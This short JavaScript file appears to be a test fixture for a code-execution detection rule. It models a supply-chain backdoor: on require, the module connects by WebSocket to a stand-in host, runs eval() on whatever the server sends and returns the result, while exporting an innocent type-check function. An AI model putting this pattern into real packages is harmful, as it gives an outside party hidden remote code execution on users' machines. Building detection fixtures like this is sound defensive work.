'use strict';
// Defanged model of a 2025 compromise: on require, the package opens a WebSocket and evaluates
// whatever the server sends, answering with the result.
const WebSocket = require('ws');

function connect() {
  const ws = new WebSocket('wss://metrics.example.invalid/ws');
  ws.on('message', (msg) => {
    try {
      // ruleid: code/code-execution
      const result = eval(msg.toString());
      ws.send(JSON.stringify({ ok: true, result: String(result) }));
    } catch (err) {
      ws.send(String(err));
    }
  });
  ws.on('close', () => setTimeout(connect, 5000));
}
connect();

module.exports = function is(x) { return typeof x; };
